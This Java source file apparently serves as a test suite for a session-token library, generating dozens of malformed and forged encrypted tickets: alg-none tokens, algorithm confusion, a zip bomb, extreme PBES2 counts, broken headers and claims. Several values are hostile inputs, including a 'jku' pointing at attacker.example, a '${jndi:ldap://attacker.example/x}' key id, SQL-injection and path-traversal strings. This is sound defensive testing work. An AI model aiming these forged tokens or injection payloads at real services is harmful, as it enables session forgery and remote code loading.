package io.cloakroom.token;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.nimbusds.jose.CompressionAlgorithm;
import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEEncrypter;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.PlainHeader;
import com.nimbusds.jose.PlainObject;
import com.nimbusds.jose.crypto.AESEncrypter;
import com.nimbusds.jose.crypto.DirectEncrypter;
import com.nimbusds.jose.crypto.ECDHEncrypter;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.PasswordBasedEncrypter;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import io.cloakroom.SessionId;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Consumer;
import javax.crypto.spec.SecretKeySpec;
import org.jspecify.annotations.Nullable;

/**
 * Hostile tickets, each made of a live one, so that nothing but its flaw keeps it from being taken.
 * Those that other software could make are made by Nimbus; those that none would, by {@link
 * Forger}.
 */
public final class TokenAttacks {

  private static final String TYPE = "cloakroom+jwt";

  private final Map<String, String> all = new LinkedHashMap<>();
  private final Forger forger;
  private final String live;
  private final String claims;

  private TokenAttacks(Forger forger, String live) {
    this.forger = forger;
    this.live = live;
    this.claims = forger.claims(live);
  }

  /**
   * Makes all of them.
   *
   * @param forger has the key of the live one
   * @param live ticket of a plain cookie
   * @return tickets by what is wrong with them
   */
  public static Map<String, String> on(Forger forger, String live) {
    TokenAttacks attacks = new TokenAttacks(forger, live);
    try {
      attacks.otherKinds();
      attacks.otherAlgorithms();
      attacks.headers();
      attacks.keys();
      attacks.claims();
      attacks.shapes();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
    return attacks.all;
  }

  private void otherKinds() throws JOSEException {
    PlainHeader none =
        new PlainHeader.Builder().type(new JOSEObjectType(TYPE)).customParam("kid", id()).build();
    all.put("alg none", new PlainObject(none, payload()).serialize());
    for (String spelling : List.of("none", "None", "NONE", "")) {
      String header = forger.header().replace("A256KW", spelling);
      all.put("JWE with alg '" + spelling + "'", forger.seal(header, claims));
      all.put(
          "five parts in clear with alg '" + spelling + "'",
          Forger.encode(header) + ".." + "." + Forger.encode(claims) + ".");
    }
    signed("JWS for JWE, by the key for tokens", forger.key.getEncoded());
    signed("JWS for JWE, by the ring's key", forger.ringKey);
    String parts = live.substring(live.indexOf('.') + 1);
    all.put(
        "JSON, flattened",
        "{\"protected\":\"%s\",\"encrypted_key\":\"%s\",\"iv\":\"%s\",\"ciphertext\":\"%s\",\"tag\":\"%s\"}"
            .formatted((Object[]) live.split("\\.", -1)));
    all.put(
        "JSON, general",
        "{\"protected\":\"%s\",\"recipients\":[{\"encrypted_key\":\"%s\"}],\"iv\":\"%s\",\"ciphertext\":\"%s\",\"tag\":\"%s\"}"
            .formatted((Object[]) live.split("\\.", -1)));
    all.put("plain JSON", claims);
    all.put("plain JSON without quotes", claims.replace("\"", ""));
    all.put("base64 of JSON", Base64.getEncoder().encodeToString(claims.getBytes(UTF_8)));
    all.put("base64url of JSON", Forger.encode(claims));
    all.put("header in clear", forger.header() + "." + parts);
    all.put("id of a stored session", SessionId.random().value());
    all.put("key of a stored session", SessionId.random().key().value());
  }

  private void otherAlgorithms() throws JOSEException {
    byte[] key = forger.key.getEncoded();
    SecretKeySpec half = new SecretKeySpec(Arrays.copyOf(key, 16), "AES");
    add(JWEAlgorithm.A128KW, EncryptionMethod.A256GCM, new AESEncrypter(half));
    add(
        JWEAlgorithm.A192KW,
        EncryptionMethod.A256GCM,
        new AESEncrypter(new SecretKeySpec(Arrays.copyOf(key, 24), "AES")));
    add(JWEAlgorithm.A256GCMKW, EncryptionMethod.A256GCM, new AESEncrypter(forger.key));
    add(JWEAlgorithm.A128GCMKW, EncryptionMethod.A256GCM, new AESEncrypter(half));
    add(JWEAlgorithm.DIR, EncryptionMethod.A256GCM, new DirectEncrypter(forger.key));
    add(JWEAlgorithm.DIR, EncryptionMethod.A128CBC_HS256, new DirectEncrypter(forger.key));
    for (EncryptionMethod content :
        List.of(
            EncryptionMethod.A128GCM,
            EncryptionMethod.A192GCM,
            EncryptionMethod.A128CBC_HS256,
            EncryptionMethod.A192CBC_HS384,
            EncryptionMethod.A256CBC_HS512)) {
      add(JWEAlgorithm.A256KW, content, new AESEncrypter(forger.key));
    }
    add(
        JWEAlgorithm.RSA_OAEP_256,
        EncryptionMethod.A256GCM,
        new RSAEncrypter(new RSAKeyGenerator(2048).generate()));
    add(
        JWEAlgorithm.ECDH_ES,
        EncryptionMethod.A256GCM,
        new ECDHEncrypter(new ECKeyGenerator(Curve.P_256).generate()));
    add(
        JWEAlgorithm.ECDH_ES_A256KW,
        EncryptionMethod.A256GCM,
        new ECDHEncrypter(new ECKeyGenerator(Curve.P_256).generate()));
    String password = Base64.getEncoder().encodeToString(forger.ringKey);
    add(
        JWEAlgorithm.PBES2_HS512_A256KW,
        EncryptionMethod.A256GCM,
        new PasswordBasedEncrypter(password, 16, 1000));
    header(
        "PBES2 with two thousand million rounds",
        with("\"p2c\":2000000000,\"p2s\":\"c2FsdHNhbHQ\"").replace("A256KW", "PBES2-HS512+A256KW"));
    JWEObject bomb =
        new JWEObject(
            header(JWEAlgorithm.A256KW, EncryptionMethod.A256GCM)
                .compressionAlgorithm(CompressionAlgorithm.DEF)
                .build(),
            new Payload(claims.replaceFirst("\\{", "{" + " ".repeat(200_000))));
    bomb.encrypt(new AESEncrypter(forger.key));
    all.put("zip bomb", bomb.serialize());
    JWEObject zipped =
        new JWEObject(
            header(JWEAlgorithm.A256KW, EncryptionMethod.A256GCM)
                .compressionAlgorithm(CompressionAlgorithm.DEF)
                .build(),
            payload());
    zipped.encrypt(new AESEncrypter(forger.key));
    all.put("zip", zipped.serialize());
  }

  private void headers() {
    for (String more :
        List.of(
            "\"jku\":\"https://attacker.example/keys\"",
            "\"jwk\":{\"kty\":\"oct\",\"k\":\"" + Forger.encode(forger.key.getEncoded()) + "\"}",
            "\"x5u\":\"file:///etc/passwd\"",
            "\"x5c\":[\"MIIB\"]",
            "\"x5t\":\"AAAA\"",
            "\"x5t#S256\":\"AAAA\"",
            "\"crit\":[]",
            "\"crit\":[\"exp\"],\"exp\":99999999999",
            "\"zip\":\"DEF\"",
            "\"zip\":\"\"",
            "\"p2c\":1",
            "\"p2s\":\"AAAA\"",
            "\"epk\":{}",
            "\"apu\":\"AAAA\"",
            "\"apv\":\"AAAA\"",
            "\"iv\":\"AAAAAAAAAAAAAAAA\"",
            "\"tag\":\"AAAAAAAAAAAAAAAAAAAAAA\"",
            "\"cty\":\"JWT\"",
            "\"b64\":false",
            "\"iss\":\"cloakroom\"",
            "\"x\":null",
            "\"kid\":\"" + id() + "\"",
            "\"alg\":\"none\"",
            "\"alg\":\"A256KW\"",
            "\"\\u0061lg\":\"none\"")) {
      header("header with " + more, with(more));
    }
    String header = forger.header();
    header("header with a space", header.replace(":", ": "));
    header("header with a line end", header + "\n");
    header("header in another order", reordered());
    header("header without typ", header.replace(",\"typ\":\"" + TYPE + "\"", ""));
    header("header without kid", header.replace("\"kid\":\"" + id() + "\",", ""));
    header("header without enc", header.replace("\"enc\":\"A256GCM\",", ""));
    header("header without alg", header.replace("\"alg\":\"A256KW\",", ""));
    header("header of another type", header.replace(TYPE, "JWT"));
    header("header of the type in capitals", header.replace(TYPE, "CLOAKROOM+JWT"));
    header("header of the type in full", header.replace(TYPE, "application/" + TYPE));
    header("header with an array", "[" + header + "]");
    header("header that is null", "null");
    header("header that is deep", "[".repeat(2000));
    header("header that is no JSON", "x");
    header("header that is empty", "");
    header("header with alg as a number", header.replace("\"A256KW\"", "1"));
    for (String kid :
        List.of(
            "unknown",
            "",
            "../../../../dev/null",
            "' OR 1=1 --",
            "${jndi:ldap://attacker.example/x}",
            "a\\u0000b",
            "a\\nb",
            "*",
            "x".repeat(33),
            "x".repeat(2000),
            id().toUpperCase(Locale.ROOT) + "x",
            id() + " ")) {
      header("kid " + kid, header.replace("\"" + id() + "\"", "\"" + kid + "\""));
    }
    header("kid that is a number", header.replace("\"" + id() + "\"", "1"));
    header("kid that is an array", header.replace("\"" + id() + "\"", "[\"" + id() + "\"]"));
  }

  private void keys() throws JOSEException {
    byte[] text = claims.getBytes(UTF_8);
    all.put(
        "another key of the same id",
        forger.seal(forger.header(), new SecretKeySpec(Forger.random(32), "AES"), 32, text));
    all.put(
        "the ring's key in place of that for tokens",
        forger.seal(forger.header(), new SecretKeySpec(forger.ringKey, "AES"), 32, text));
    all.put("content key of 128 bits", forger.seal(forger.header(), forger.key, 16, text));
    byte[] own = Forger.random(32);
    all.put("content key in clear", forger.encrypt(forger.header(), Forger.encode(own), own, text));
    all.put(
        "content key of nothing but zeros",
        forger.encrypt(forger.header(), Forger.encode(new byte[40]), new byte[32], text));
    all.put("no content key", forger.encrypt(forger.header(), "", forger.key.getEncoded(), text));
    JWEObject jwt =
        new JWEObject(
            new JWEHeader.Builder(JWEAlgorithm.A256KW, EncryptionMethod.A256GCM)
                .keyID(id())
                .type(JOSEObjectType.JWT)
                .build(),
            payload());
    jwt.encrypt(new AESEncrypter(forger.key));
    all.put("another kind of token under the same key", jwt.serialize());
  }

  private void claims() {
    for (String claim :
        List.of(
            "iss", "aud", "iat", "nbf", "exp", "jti", "lin", "ver", "cre", "acc", "idl", "att")) {
      claim("no " + claim, map -> map.put(claim, null));
      claim(claim + " in an array", map -> map.put(claim, List.of()));
      claim(claim + " that is true", map -> map.put(claim, true));
    }
    long now = Instant.now().getEpochSecond();
    claim("another issuer", map -> map.put("iss", "cloakroom2"));
    claim("another audience", map -> map.put("aud", "another-application"));
    claim("several audiences", map -> map.put("aud", List.of("shop", "x")));
    claim("expired", map -> map.put("exp", now - 120));
    claim("not yet", map -> map.put("nbf", now + 120));
    claim("made in the future", map -> map.put("iat", now + 120));
    claim("made long ago", map -> map.put("iat", now - 100_000));
    claim("end of the lifetime passed", map -> map.put("end", (now - 1) * 1000));
    for (String time : List.of("iat", "nbf", "exp")) {
      claim(time + " as a text", map -> map.put(time, String.valueOf(now + 1)));
      claim(time + " below zero", map -> map.put(time, -1));
      text(
          time + " beyond all numbers",
          claims.replaceFirst("\"" + time + "\":[0-9.]+", "\"" + time + "\":1e999999999"));
      for (String digits :
          List.of(
              "1e2147483647", "1e2147483648", "1e-2147483647", "17e95295863022", "9".repeat(900))) {
        text(
            time + " of " + digits,
            claims.replaceFirst("\"" + time + "\":[0-9.]+", "\"" + time + "\":" + digits));
      }
      text(
          time + " that is no number",
          claims.replaceFirst("\"" + time + "\":[0-9.]+", "\"" + time + "\":NaN"));
    }
    claim("jti that is no id", map -> map.put("jti", "x"));
    claim("jti of a host-bound session", map -> map.put("jti", "__Host-" + map.get("jti")));
    text("claims twice", claims.replaceFirst("\\{", "{\"sub\":\"a\",\"sub\":\"b\","));
    text("claims of something else", "{\"sub\":\"alice\",\"exp\":99999999999}");
    text("claims that are a list", "[" + claims + "]");
    text("claims and more", claims + "{}");
    text("claims cut off", claims.substring(0, claims.length() - 1));
    text("claims that are null", "null");
    text("claims that are empty", "");
    text("claims that are no JSON", "x".repeat(200));
    text("claims that are deep", "{\"x\":" + "[".repeat(1500));
    all.put(
        "claims that are no UTF-8",
        forger.seal(forger.header(), forger.key, 32, new byte[] {(byte) 0xff, (byte) 0xfe}));
  }

  private void shapes() {
    String[] parts = live.split("\\.", -1);
    for (int i = 0; i < parts.length; i++) {
      String[] without = parts.clone();
      without[i] = "";
      all.put("without part " + i, String.join(".", without));
      String[] cut = parts.clone();
      cut[i] = cut[i].substring(0, cut[i].length() - 1);
      all.put("part " + i + " cut by one", String.join(".", cut));
      String[] padded = parts.clone();
      padded[i] += "=";
      all.put("part " + i + " padded", String.join(".", padded));
      String[] longer = parts.clone();
      longer[i] += "AAAA";
      all.put("part " + i + " longer", String.join(".", longer));
      String[] spaced = parts.clone();
      spaced[i] = spaced[i].substring(0, 4) + "~" + spaced[i].substring(4);
      all.put("part " + i + " with a character that decoders skip", String.join(".", spaced));
      String[] doubled = parts.clone();
      doubled[i] += "." + parts[i];
      all.put("part " + i + " twice", String.join(".", doubled));
    }
    for (int cut : List.of(1, 4, 8, 12, 16, 20)) {
      all.put("tag cut by " + cut, live.substring(0, live.length() - cut));
    }
    String tag = parts[4];
    char last = tag.charAt(tag.length() - 1);
    all.put("tag with spare bits set", live.substring(0, live.length() - 1) + (char) (last + 1));
    all.put("no tag", live.substring(0, live.lastIndexOf('.')));
    all.put("four dots", "....");
    all.put("dots", ".".repeat(4000));
    all.put("one character", "x");
    all.put("beginning of a token", live.substring(0, live.length() / 2));
    all.put("twice", live + live);
    all.put("with a space", live.substring(0, 9) + " " + live.substring(9));
    all.put("in quotes", "\"" + live + "\"");
    all.put("in capitals", live.toUpperCase(Locale.ROOT));
    all.put("percent-encoded", live.replace(".", "%2e"));
    all.put("with the prefix", "__Host-" + live);
    text("oversize", claims.replaceFirst("\\{", "{" + " ".repeat(3000)));
    all.put("nothing but the alphabet", "A".repeat(3800));
  }

  private void signed(String flaw, byte[] key) throws JOSEException {
    JWSHeader header =
        new JWSHeader.Builder(JWSAlgorithm.HS256)
            .type(new JOSEObjectType(TYPE))
            .keyID(id())
            .build();
    JWSObject signed = new JWSObject(header, payload());
    signed.sign(new MACSigner(key));
    all.put(flaw, signed.serialize());
  }

  private void add(JWEAlgorithm algorithm, EncryptionMethod content, JWEEncrypter encrypter)
      throws JOSEException {
    JWEObject token = new JWEObject(header(algorithm, content).build(), payload());
    token.encrypt(encrypter);
    all.put(algorithm + " with " + content, token.serialize());
    String[] parts = token.serialize().split("\\.", -1);
    parts[0] = Forger.encode(forger.header());
    all.put(algorithm + " with " + content + ", header swapped", String.join(".", parts));
  }

  private JWEHeader.Builder header(JWEAlgorithm algorithm, EncryptionMethod content) {
    return new JWEHeader.Builder(algorithm, content).keyID(id()).type(new JOSEObjectType(TYPE));
  }

  private void header(String flaw, String header) {
    all.put(flaw, forger.seal(header, claims));
  }

  private void claim(String flaw, Consumer<Map<String, @Nullable Object>> change) {
    text(flaw, forger.changed(claims, change));
  }

  private void text(String flaw, String text) {
    all.put(flaw, forger.seal(text));
  }

  private String with(String more) {
    return forger.header().replace("}", "," + more + "}");
  }

  private String reordered() {
    return "{\"typ\":\"%s\",\"kid\":\"%s\",\"enc\":\"A256GCM\",\"alg\":\"A256KW\"}"
        .formatted(TYPE, id());
  }

  private String id() {
    return forger.keyId;
  }

  private Payload payload() {
    return new Payload(claims);
  }
}
